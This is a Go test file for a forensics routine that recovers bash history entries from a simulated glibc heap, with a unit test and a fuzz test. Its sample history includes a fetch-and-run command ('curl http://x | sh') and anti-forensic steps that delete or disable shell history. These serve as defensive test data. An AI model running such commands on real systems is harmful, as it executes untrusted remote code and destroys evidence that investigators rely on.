package linux

import (
	"encoding/binary"
	"fmt"
	"testing"
)

// bashHeap lays out a heap as bash and glibc's malloc leave it: 16-byte
// aligned chunks holding each command, its "#SECONDS" string and its
// HIST_ENTRY, and the history array pointing to the entries in order.
// Commands listed in freed get an entry whose first 16 bytes malloc
// reused (as free does), and one stale entry stays out of the list.
func bashHeap(base uint64, cmds []string, freed map[int]bool) []byte {
	heap := make([]byte, 0, 8192)
	le := binary.LittleEndian
	alloc := func(b []byte) uint64 {
		heap = append(heap, make([]byte, 16)...) // the chunk header
		a := base + uint64(len(heap))
		heap = append(heap, b...)
		for len(heap)%16 != 0 {
			heap = append(heap, 0)
		}
		return a
	}
	var list []uint64
	for i, c := range cmds {
		line := alloc(append([]byte(c), 0))
		ts := alloc([]byte(fmt.Sprintf("#%d\x00", 1764800000+i)))
		e := make([]byte, 24)
		le.PutUint64(e, line)
		le.PutUint64(e[8:], ts)
		if freed[i] {
			le.PutUint64(e, 0x1234)   // tcache next
			le.PutUint64(e[8:], 0x99) // tcache key
		}
		a := alloc(e)
		if !freed[i] && c != "stale" {
			list = append(list, a)
		}
	}
	arr := make([]byte, 8*(len(list)+1))
	for i, a := range list {
		le.PutUint64(arr[8*i:], a)
	}
	alloc(arr)
	return heap
}

func TestBashHistoryIn(t *testing.T) {
	const base = 0x55d0c0a00000
	cmds := []string{"id", "curl http://x | sh", "gone", "rm -f ~/.bash_history", "stale", "unset HISTFILE"}
	got := BashHistoryIn(bashHeap(base, cmds, map[int]bool{2: true}), base)
	want := []string{"0 id 1764800000", "1 curl http://x | sh 1764800001", "2 rm -f ~/.bash_history 1764800003",
		"3 unset HISTFILE 1764800005", "-1 stale 1764800004"}
	if len(got) != len(want) {
		t.Fatalf("got %d entries, want %d: %+v", len(got), len(want), got)
	}
	for i, e := range got {
		if s := fmt.Sprintf("%d %s %d", e.Index, e.Command, e.Time); s != want[i] {
			t.Errorf("entry %d: %s, want %s", i, s, want[i])
		}
	}
	if got := BashHistoryIn(make([]byte, 4096), base); got != nil {
		t.Errorf("an empty heap gave %+v", got)
	}
}

// FuzzBashHeap: any heap, at any base, never panics.
func FuzzBashHeap(f *testing.F) {
	f.Add(bashHeap(0x1000, []string{"ls", "stale", "x"}, map[int]bool{2: true}), uint64(0x1000))
	f.Add([]byte("#1764800000\x00\x00\x00\x00\x00"), uint64(7))
	f.Fuzz(func(t *testing.T, heap []byte, base uint64) {
		if base > ^uint64(0)-uint64(len(heap)) {
			return
		}
		for _, e := range BashHistoryIn(heap, base) {
			if e.Command == "" || len(e.Command) > maxHistLine {
				t.Fatalf("entry %+v", e)
			}
		}
	})
}
